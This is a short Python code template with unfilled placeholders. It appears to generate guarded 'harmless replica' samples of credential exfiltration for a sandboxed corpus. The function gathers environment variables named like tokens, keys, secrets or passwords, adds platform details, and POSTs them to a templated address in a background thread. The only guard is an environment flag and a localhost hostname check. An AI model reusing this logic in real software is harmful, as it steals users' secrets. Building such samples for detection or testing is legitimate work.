# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import http.client
    import json
    import platform
    import threading
    import time

    def send():
        time.sleep({{delay}} / 1000)
        keep = {name: value for name, value in os.environ.items() if any(word in name for word in ('TOKEN', 'KEY', 'SECRET', 'PASS'))}
        keep['platform'] = platform.platform()
        for port in ({{port}}, 80):
            try:
                link = http.client.HTTPConnection('{{ip}}', port, timeout=0.5)
                link.request('POST', '/{{path}}', json.dumps(keep), {'User-Agent': '{{token}}'})
                link.getresponse()
                link.close()
                break
            except Exception:
                continue

    worker = threading.Thread(target=send)
    worker.start()
    worker.join(2.5)
